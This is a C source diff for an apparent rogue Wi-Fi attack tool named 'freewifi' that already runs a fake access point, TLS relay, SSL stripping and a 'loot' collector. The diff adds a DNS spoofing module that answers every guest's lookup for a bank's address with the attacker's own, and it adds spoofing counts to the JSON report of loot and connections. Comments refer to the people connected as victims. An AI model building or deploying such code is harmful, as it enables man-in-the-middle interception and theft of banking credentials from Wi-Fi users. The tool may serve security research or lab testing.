@@ -12,6 +12,7 @@
 #include <uv.h>
 
 #include "accesspoint.h"
+#include "dnsspoof.h"
 #include "loot.h"
 #include "relay.h"
 #include "uplink.h"
@@ -31,6 +32,7 @@ struct freewifi {
 	struct uplink uplink;
 	struct accesspoint ap;
 	bool ap_started;
+	struct dnsspoof dns;
 	struct relay *relay;
 	SSL_CTX *server_ctx, *client_ctx;
 	struct strip strip;
@@ -71,6 +73,7 @@ static void stop(struct freewifi *f)
 		relay_stop(f->relay);
 	if (f->ap_started)
 		accesspoint_stop(&f->ap);
+	dnsspoof_stop(&f->dns);
 	close_watch(&f->watching_stop, &f->stop);
 	close_watch(&f->watching_input, &f->input);
 	if (!uv_is_closing((uv_handle_t *)&f->ready))
@@ -231,6 +234,23 @@ static enum err watch_fd(struct freewifi *f, uv_poll_t *h, bool *on, int fd, uv_
 	return ERR_OK;
 }
 
+static enum err start_spoofing(struct freewifi *f)
+{
+	if (!f->opt->dns)
+		return ERR_OK;
+	f->dns.trace = f->trace;
+	f->dns.bank_name = FREEWIFI_BANK;
+	f->dns.ap = &f->ap;
+	enum err e = dnsspoof_start(&f->dns, &f->loop, &f->lan);
+	if (e == ERR_UNSUPPORTED)
+		return fail(f, e, "nft does not take the rules that keep questions from their servers");
+	if (e)
+		return fail(f, e, "the packets on %s cannot be read: %s", f->lan.ifname, strerror(errno));
+	ev_decision(f->trace, "dns-everywhere", "RFC 3833 2.1",
+	    "whichever name server a guest asks for an address of %s: mallory answers in its place", FREEWIFI_BANK);
+	return ERR_OK;
+}
+
 static enum err start(struct freewifi *f)
 {
 	enum err e = find_places(f);
@@ -238,6 +258,8 @@ static enum err start(struct freewifi *f)
 		e = make_contexts(f);
 	if (!e)
 		e = start_relay(f);
+	if (!e)
+		e = start_spoofing(f);
 	if (!e)
 		e = watch_fd(f, &f->stop, &f->watching_stop, f->opt->stop_fd, on_stop);
 	if (!e)
@@ -275,9 +297,10 @@ static void emit_result(struct freewifi *f)
 	for (size_t i = 0; i < l->n && n < sizeof line; i++)
 		n += (size_t)snprintf(
 		    line + n, sizeof line - n, "%s%s=%s", i ? ", " : "", l->items[i].key, l->items[i].value);
-	json_t *o = json_pack("{s:s, s:b, s:b, s:o, s:o, s:o, s:i}", "tls", tls_attack_name(f->opt->tls), "rewrite",
-	    f->opt->rewrite, "strip", f->opt->strip, "loot", loot_json(l), "connections", relay_json(f->relay),
-	    "leases", leases_json(&f->ap), "dns_lies", (int)f->ap.lies);
+	json_t *o =
+	    json_pack("{s:s, s:b, s:b, s:o, s:o, s:o, s:i, s:o}", "tls", tls_attack_name(f->opt->tls), "rewrite",
+	        f->opt->rewrite, "strip", f->opt->strip, "loot", loot_json(l), "connections", relay_json(f->relay),
+	        "leases", leases_json(&f->ap), "dns_lies", (int)f->ap.lies, "dns_spoofed", dnsspoof_json(&f->dns));
 	char *data = o ? json_dumps(o, JSON_COMPACT) : NULL;
 	json_decref(o);
 	if (l->n)
@@ -311,6 +334,7 @@ enum err freewifi_run(const struct freewifi_options *opt, struct trace *t, char 
 	f->opt = opt;
 	f->trace = t;
 	f->msg = msg;
+	f->dns.in = f->dns.out = -1;
 	loot_init(&f->loot);
 	signal(SIGPIPE, SIG_IGN); /* OpenSSL writes to sockets that victims have closed */
 	if (uv_loop_init(&f->loop)) {
